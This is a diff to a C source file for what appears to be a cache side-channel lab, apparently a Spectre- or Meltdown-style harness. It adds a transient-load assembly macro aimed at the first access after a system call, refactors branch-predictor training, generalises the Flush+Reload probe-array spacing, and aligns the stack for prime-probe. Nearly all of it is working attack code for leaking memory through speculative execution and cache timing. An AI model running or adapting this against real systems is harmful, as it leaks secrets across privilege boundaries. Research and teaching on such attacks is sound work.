@@ -191,11 +191,16 @@ static inline u64 pick(int condition, u64 yes, u64 no)
 
 static u32 dice = 12345;
 
+static u32 roll(void)
+{
+    dice = dice * 1103515245 + 12345;
+    return dice >> 16;
+}
+
 /* 4 to 11: how often to train before the next attack. A number that changes, or good predictors learn when it comes. */
 static int trainings(void)
 {
-    dice = dice * 1103515245 + 12345;
-    return 4 + (dice >> 16) % 8;
+    return 4 + roll() % 8;
 }
 
 /* A branch with a history of its own: 32 jumps that go the same way whatever came before. */
@@ -206,22 +211,25 @@ static int trainings(void)
 #ifndef PROBED
 #define PROBED VALUES
 #endif
+#ifndef SPACING
+#define SPACING STRIDE
+#endif
 
 static u8 before_probe[PAGE] __attribute__((aligned(PAGE)));
 /* Not static: assembly names it. */
-u8 probe[VALUES * STRIDE] __attribute__((aligned(PAGE)));
+u8 probe[VALUES * SPACING] __attribute__((aligned(PAGE)));
 static u8 after_probe[PAGE] __attribute__((aligned(PAGE)));
 
 static u32 threshold;
 static u32 hits[VALUES];
 static u8 ignored[VALUES]; /* lines that the victim touches when it does what it may */
-static u16 reloads[VALUES];
+static u16 reloads[PROBED];
 static u32 histogram[1024];
 
 static void flush_probe(void)
 {
     for (u64 value = 0; value < PROBED; value++)
-        flush(probe + value * STRIDE);
+        flush(probe + value * SPACING);
     fence();
 }
 
@@ -230,7 +238,7 @@ static void reload_probe(void)
 {
     for (u64 i = 0; i < PROBED; i++) {
         u64 value = (i * 167 + 13) % PROBED;
-        u32 cycles = time_of_load(probe + value * STRIDE);
+        u32 cycles = time_of_load(probe + value * SPACING);
         reloads[value] = cycles < 1023 ? cycles : 1023;
         histogram[reloads[value]]++;
         hits[value] += (cycles < threshold) & !ignored[value];
@@ -285,7 +293,7 @@ static int best_value(u32 lead)
 {
     u32 best = 0, second = 0;
     int value = -1;
-    for (int i = 0; i < PROBED; i++) {
+    for (int i = 0; i < VALUES; i++) {
         if (hits[i] > best) {
             second = best;
             best = hits[i];
@@ -353,6 +361,14 @@ u64 slow_word[LINE / 8] __attribute__((aligned(LINE)));
                      "movzbl probe(%%rax), %%eax\n\t"                                                                  \
                      "1:"                                                                                              \
                      : : "r"(address), "r"(value) : "rax", "rcx", "rdx", "memory", "cc")
+/* The same without the load from memory, for attacks that want to be the first after the system call. */
+#define STALE_ACCESS(address)                                                                                          \
+    __asm__ volatile("movq $1f, landing\n\t"                                                                           \
+                     "xor %%eax, %%eax\n\t" LOAD_BYTE "\n\t"                                                           \
+                     "shl $" STRIDE_SHIFT ", %%rax\n\t"                                                                \
+                     "movzbl probe(%%rax), %%eax\n\t"                                                                  \
+                     "1:"                                                                                              \
+                     : : "r"(address) : "rax", "memory", "cc")
 #define LOAD_BYTE "movzbl (%0), %%eax"
 
 /* ---- the frame ---------------------------------------------------------------------------------------------------- */
@@ -403,7 +419,7 @@ static void report(u64 bytes, u64 tries, const u16 *first)
 
 static void leak(u64 bytes, u64 most_tries, u32 lead)
 {
-    static u16 first[VALUES];
+    static u16 first[PROBED];
     u64 all = 0;
     for (u64 index = 0; index < bytes; index++) {
         int value = -1;
@@ -441,6 +457,7 @@ __attribute__((used)) static void lab_main(u64 *stack)
     finish(0);
 }
 
-__asm__(".globl _start\n_start:\n\txor %ebp, %ebp\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall lab_main\n\thlt");
+/* The stack begins at the end of a page: prime-probe knows then which sets of the cache it uses. */
+__asm__(".globl _start\n_start:\n\txor %ebp, %ebp\n\tmov %rsp, %rdi\n\tand $-4096, %rsp\n\tcall lab_main\n\thlt");
 
 #endif
